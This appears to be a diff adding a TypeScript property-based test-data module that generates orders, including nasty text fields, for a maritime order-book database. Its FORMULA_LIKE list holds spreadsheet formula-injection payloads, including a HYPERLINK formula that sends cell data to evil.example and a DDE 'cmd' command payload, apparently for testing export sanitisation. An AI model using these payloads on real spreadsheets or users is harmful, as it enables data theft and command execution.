@@ -1,0 +1,212 @@
+import Database from 'better-sqlite3'
+import fc from 'fast-check'
+import { dayCalendar } from '../../src/orders/book/day-calendar.js'
+import { openOrderBook } from '../../src/orders/book/order-book.js'
+import { orderRecords } from '../../src/orders/book/order-records.js'
+import type { Order } from '../../src/orders/order.js'
+import { ORDER_STATUSES } from '../../src/orders/order-status.js'
+import { isTextLine } from '../../src/validation/text-line.js'
+import { FORMATS } from '../../src/validation/formats.js'
+import { calculation, imoNumber, textLine } from './calculations.js'
+
+/** Texts that spreadsheets run, trip over or change. */
+const FORMULA_LIKE = [
+  '=1+1',
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  "'=1+1",
+  "''=1+1",
+  "'plain",
+  "'",
+  '+31 20 555 0100',
+  '-1',
+  '-',
+  '@SUM(A1:A9)',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠A1',
+  ' =1+1',
+  '\u00a0=1+1',
+  "' =1+1",
+  '{"formula":"1+1"}',
+  '[object Object]',
+  '#REF!',
+  '_x0041_',
+  '_x000D_',
+  '1e5',
+  '00123',
+  '12345678901234567890',
+  '2026-11-20',
+  'TRUE',
+  'null',
+  'a,b;c\td',
+  'say "ahoy", he said',
+  '""',
+  '|pipe|',
+  'שלום =1',
+  '\u200fمرحبا',
+  '⛵🏴‍☠️👩‍✈️',
+  '\ufeffbom',
+] as const
+
+/** One line of text as a field of an order takes it, plain or nasty. */
+export const orderText = (maxLength: number): fc.Arbitrary<string> =>
+  fc
+    .oneof(textLine(maxLength), fc.constantFrom(...FORMULA_LIKE))
+    .filter((text) => text.length <= maxLength && isTextLine(text))
+
+const BREAKS = ['\n', '\r\n', '\r', '\n\n', '\t', ' '] as const
+
+/** Notes: nothing, a line, or several with every kind of break between and around them. */
+export const notes: fc.Arbitrary<string> = fc
+  .oneof(
+    fc.constant(''),
+    orderText(200),
+    fc
+      .array(fc.oneof(orderText(60), fc.constantFrom(...BREAKS)), { minLength: 1, maxLength: 12 })
+      .map((parts) => parts.join('')),
+    orderText(40).map((text) => text.repeat(200).slice(0, 9_000)),
+  )
+  .filter((text) => text.length <= 10_000 && FORMATS.text?.(text) === true)
+
+/** With none, two, three and four decimals. */
+export const currency = fc.constantFrom('EUR', 'USD', 'JPY', 'KRW', 'BHD', 'KWD', 'CLF', 'NOK')
+
+const amountMinor = fc.oneof(
+  fc.constantFrom(0, 1, 99, 100, 4009, 1_000_000_000_000),
+  fc.integer({ min: 0, max: 10_000_000 }),
+)
+
+const co2eKg = fc.oneof(
+  fc.constantFrom(0, 1e-7, 0.1, 1603.6, 999_999_999.999, 1_000_000_000),
+  fc.double({ min: 0, max: 1_000_000, noNaN: true }).map((mass) => mass + 0), // never -0
+)
+
+/** A moment of the last decades, or one at which clocks are set or time zones disagree. */
+export const moment: fc.Arbitrary<string> = fc
+  .oneof(
+    fc.date({
+      min: new Date('1990-01-01T00:00:00Z'),
+      max: new Date('2026-11-20T12:00:00Z'),
+      noInvalidDate: true,
+    }),
+    fc.constantFrom(
+      ...[
+        '1970-01-01T00:00:00.000Z',
+        '2024-02-29T12:00:00.000Z',
+        '2026-03-29T00:59:59.999Z',
+        '2026-03-29T01:00:00.000Z',
+        '2026-10-25T00:30:00.000Z',
+        '2026-10-25T01:30:00.000Z',
+        '2025-12-31T23:59:59.999Z',
+      ].map((text) => new Date(text)),
+    ),
+  )
+  .map((date) => date.toISOString())
+
+const customerEmail = fc.constantFrom(
+  'ann@example.com',
+  '=cmd@example.com',
+  '+tag@example.com',
+  '-dash@example.org',
+  'первый@пример.рф',
+  "o'hara+sea@example.co.uk",
+)
+
+/** Any order that a book may hold, nasty ones among them, by its id. */
+export const order = (id: number): fc.Arbitrary<Order> =>
+  fc
+    .record({
+      status: fc.constantFrom(...ORDER_STATUSES),
+      customerName: orderText(120),
+      customerEmail,
+      vesselName: fc.option(orderText(80)),
+      imoNumber: fc.option(imoNumber),
+      calculation: fc.option(calculation),
+      co2eKg,
+      amountMinor,
+      currency,
+      orderSourceId: fc.option(orderText(120)),
+      notes,
+      placedAt: moment,
+      createdAt: moment,
+      updatedAt: moment,
+      fulfilledAt: fc.option(moment),
+      cancelledAt: fc.option(moment),
+      version: fc.integer({ min: 1, max: 1_000 }),
+    })
+    .map(({ calculation, ...fields }) => ({
+      id: String(id),
+      orderNumber: `CW-${String(id).padStart(6, '0')}`,
+      status: fields.status,
+      customerName: fields.customerName,
+      customerEmail: fields.customerEmail,
+      vesselName: fields.vesselName,
+      imoNumber: fields.imoNumber,
+      calculatorType: calculation?.calculatorType ?? null,
+      calculatorData: calculation === null ? null : { ...calculation.calculatorData },
+      co2eKg: fields.co2eKg,
+      amountMinor: fields.amountMinor,
+      currency: fields.currency,
+      orderSourceId: fields.orderSourceId,
+      notes: fields.notes,
+      placedAt: fields.placedAt,
+      createdAt: fields.createdAt,
+      updatedAt: fields.updatedAt,
+      fulfilledAt: fields.fulfilledAt,
+      cancelledAt: fields.cancelledAt,
+      version: fields.version,
+    }))
+
+/** Random orders with ids from 1; the same for the same seed. */
+export const randomOrders = (count: number, seed = 1): Order[] =>
+  Array.from({ length: count }, (_, index) =>
+    fc.sample(order(index + 1), { numRuns: 1, seed: seed + index }),
+  ).flat()
+
+/** Usual orders, made quickly: for books that are to be large. */
+export function* usualOrders(count: number): Generator<Order> {
+  const first = Date.UTC(2025, 0, 1)
+  for (let id = 1; id <= count; id++) {
+    const placedAt = new Date(first + ((id * 7_919) % 1_000_000) * 60_000).toISOString()
+    const status = ORDER_STATUSES[id % ORDER_STATUSES.length] ?? 'pending'
+    yield {
+      id: String(id),
+      orderNumber: `CW-${String(id).padStart(6, '0')}`,
+      status,
+      customerName: `Customer ${(id * 31) % 9_973} of Harbour ${id % 97}`,
+      customerEmail: `customer${id % 9_973}@example.com`,
+      vesselName: id % 3 === 0 ? null : `Vessel ${id % 4_001}`,
+      imoNumber: id % 2 === 0 ? '9811000' : null,
+      calculatorType: 'fuel',
+      calculatorData: { fuelType: 'mgo', quantity: 100 + (id % 900), unit: 'l' },
+      co2eKg: Math.round((320.72 + id * 3.2072) * 100) / 100,
+      amountMinor: 1_000 + (id % 100_000),
+      currency: ['EUR', 'USD', 'JPY'][id % 3] ?? 'EUR',
+      orderSourceId: id % 5 === 0 ? `off_${id.toString(36)}` : null,
+      notes: id % 10 === 0 ? 'Paid by bank transfer\nsee e-mail' : '',
+      placedAt,
+      createdAt: placedAt,
+      updatedAt: placedAt,
+      fulfilledAt: status === 'fulfilled' ? placedAt : null,
+      cancelledAt: status === 'cancelled' ? placedAt : null,
+      version: 1 + (id % 4),
+    }
+  }
+}
+
+/** Makes a book, or adds to one, in one transaction. */
+export async function fillBook(
+  path: string,
+  orders: Iterable<Order>,
+  timeZone = 'UTC',
+): Promise<void> {
+  await openOrderBook({ path, timeZone }).close()
+  const db = new Database(path)
+  const records = orderRecords(db, dayCalendar(timeZone))
+  db.transaction(() => {
+    for (const one of orders) records.add(one, 'test')
+  })()
+  db.close()
+}
